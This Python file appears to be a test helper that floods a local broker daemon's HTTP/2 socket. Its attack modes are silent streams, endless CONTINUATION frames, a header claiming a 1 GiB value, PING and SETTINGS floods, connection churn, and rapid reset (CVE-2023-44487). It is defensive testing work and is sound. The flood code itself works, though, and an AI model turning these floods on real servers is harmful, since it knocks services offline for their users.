"""A hostile local HTTP/2 client for the denial-of-service tests (run as root, drops to the given uid).

``_h2_attack.py UID GID SOCKET MODE CONNECTIONS STREAMS``: opens CONNECTIONS connections to the broker's
public socket and attacks on each until its stdin closes, then prints a JSON summary and exits. It
prints ``ready`` once every connection has started. A connection the daemon closes is opened again, so
the pressure never lets up. Modes:

* ``silent``: STREAMS calls per connection to ``Broker/MintToken`` that send their headers and never their
  request message; each one that ends is replaced at once (closed loop, as fast as the daemon answers);
* ``continuation``: one header block per connection that never ends: HEADERS without END_HEADERS, then
  CONTINUATION frames of valid HPACK forever;
* ``ping``, ``settings``: PING or SETTINGS frames as fast as the socket takes them;
* ``reset``: rapid reset (CVE-2023-44487): a complete call's headers, then RST_STREAM at once, repeated.

Frames are built with hyperframe/hpack (the ``h2`` package), so a flood is exactly what the mode says,
whatever a well-behaved client library would allow. Like _as_user.py, everything is imported before
the privileges are dropped: the interpreter may live where the second uid cannot read.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
from collections.abc import Callable

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from hpack import Encoder
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CALL_HEADERS = [(":method", "POST"), (":scheme", "http"), (":path", "/broker.v1.Broker/MintToken"),
                (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
CANCEL = 0x8


class Counters:
    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.connections = 0
        self.closed_by_daemon = 0
        self.streams = 0
        self.frames = 0
        self.started = 0  # connections that sent their first attack frames

    def snapshot(self) -> dict[str, int]:
        with self.lock:
            return {k: v for k, v in vars(self).items() if k != "lock"}

    def add(self, **counts: int) -> None:
        with self.lock:
            for k, v in counts.items():
                setattr(self, k, getattr(self, k) + v)


def connect(path: str) -> socket.socket:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(path)
    return s


def drain(s: socket.socket) -> None:
    """Read and drop whatever the daemon sends (ACKs, GOAWAY), so its writes never block on us."""
    try:
        while s.recv(65536):
            pass
    except OSError:
        pass


def silent(path: str, streams: int, stop: threading.Event, c: Counters) -> None:
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    s = connect(path)
    c.add(connections=1)
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    open_streams: set[int] = set()
    first = True
    s.settimeout(0.2)
    while not stop.is_set():
        # Refill to the target, within what the daemon advertises (a client beyond it is refused in C).
        limit = min(streams, conn.remote_settings.max_concurrent_streams)
        while len(open_streams) < limit:
            sid = conn.get_next_available_stream_id()
            try:
                conn.send_headers(sid, CALL_HEADERS, end_stream=False)
            except h2.exceptions.TooManyStreamsError:
                break
            open_streams.add(sid)
            c.add(streams=1)
        s.sendall(conn.data_to_send())
        if first:
            c.add(started=1)
            first = False
        try:
            data = s.recv(65536)
        except TimeoutError:
            continue
        if not data:
            raise ConnectionResetError
        for event in conn.receive_data(data):
            if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                open_streams.discard(event.stream_id)
            elif isinstance(event, h2.events.ConnectionTerminated):
                raise ConnectionResetError
        s.sendall(conn.data_to_send())


def churn(path: str, streams: int, stop: threading.Event, c: Counters) -> None:
    """Connect and close again, as fast as the daemon lets us (issue 12 item 4)."""
    first = True
    while not stop.is_set():
        s = connect(path)
        s.close()
        c.add(connections=1, started=int(first))
        first = False


def raw_flood(make: Callable[[Encoder, int], bytes]) -> Callable[[str, int, threading.Event, Counters], None]:
    """A flood of frames from ``make(encoder, round)``, written as fast as the socket accepts them."""
    def run(path: str, streams: int, stop: threading.Event, c: Counters) -> None:
        s = connect(path)
        c.add(connections=1)
        reader = threading.Thread(target=drain, args=(s,), daemon=True)
        reader.start()
        enc = Encoder()
        try:
            s.sendall(PREFACE + SettingsFrame(0).serialize())
            n = 0
            while not stop.is_set() and reader.is_alive():
                s.sendall(make(enc, n))
                n += 1
                c.add(frames=1, started=int(n == 1))
        finally:
            s.close()
        raise ConnectionResetError

    return run


def _continuation(enc: Encoder, n: int) -> bytes:
    if n == 0:
        return HeadersFrame(1, data=enc.encode(CALL_HEADERS)).serialize()  # no END_HEADERS: never ends
    # New literal names defeat the dynamic table: every fragment is new header bytes to hold.
    block = enc.encode([(f"x-{n}-{i}", "a" * 900) for i in range(16)])
    return ContinuationFrame(1, data=block).serialize()


def _huge_value(enc: Encoder, n: int) -> bytes:
    if n == 0:
        # A literal header without indexing whose value claims 1 GiB: its bytes follow forever.
        length = 1 << 30
        prefix = bytearray(b"\x00\x03x-y\x7f")  # new name "x-y", then the 7-bit prefix integer, maxed
        length -= 127
        while length >= 128:
            prefix.append(length % 128 + 128)
            length //= 128
        prefix.append(length)
        return HeadersFrame(1, data=enc.encode(CALL_HEADERS) + bytes(prefix)).serialize()
    return ContinuationFrame(1, data=b"a" * 16384).serialize()


def _reset(enc: Encoder, n: int) -> bytes:
    sid = 2 * n + 1
    if sid >= 1 << 31:
        raise ConnectionResetError  # stream ids used up: start a new connection
    headers = HeadersFrame(sid, data=enc.encode(CALL_HEADERS), flags=["END_HEADERS"]).serialize()
    return headers + RstStreamFrame(sid, error_code=CANCEL).serialize()


MODES: dict[str, Callable[[str, int, threading.Event, Counters], None]] = {
    "silent": silent,
    "churn": churn,
    "continuation": raw_flood(_continuation),
    "huge-header": raw_flood(_huge_value),
    "ping": raw_flood(lambda enc, n: PingFrame(0, opaque_data=n.to_bytes(8, "big")).serialize()),
    "settings": raw_flood(lambda enc, n: SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535 + n % 2})
                          .serialize()),
    "reset": raw_flood(_reset),
}


def keep_attacking(attack: Callable[[str, int, threading.Event, Counters], None], path: str, streams: int,
                   stop: threading.Event, c: Counters) -> None:
    while not stop.is_set():
        try:
            attack(path, streams, stop, c)
        except (OSError, h2.exceptions.ProtocolError):
            c.add(closed_by_daemon=1)


def main() -> int:
    uid, gid, path, mode = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4]
    connections, streams = int(sys.argv[5]), int(sys.argv[6])
    os.setgroups([])
    os.setgid(gid)
    os.setuid(uid)
    assert os.getuid() == uid and os.geteuid() == uid
    stop = threading.Event()
    counters = Counters()
    threads = [threading.Thread(target=keep_attacking, args=(MODES[mode], path, streams, stop, counters),
                                daemon=True) for _ in range(connections)]
    for t in threads:
        t.start()
    while counters.snapshot()["started"] < connections:
        stop.wait(0.01)
    print("ready", flush=True)
    sys.stdin.read()  # the test closes our stdin to stop us
    stop.set()
    for t in threads:
        t.join(10)
    print(json.dumps(counters.snapshot()), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
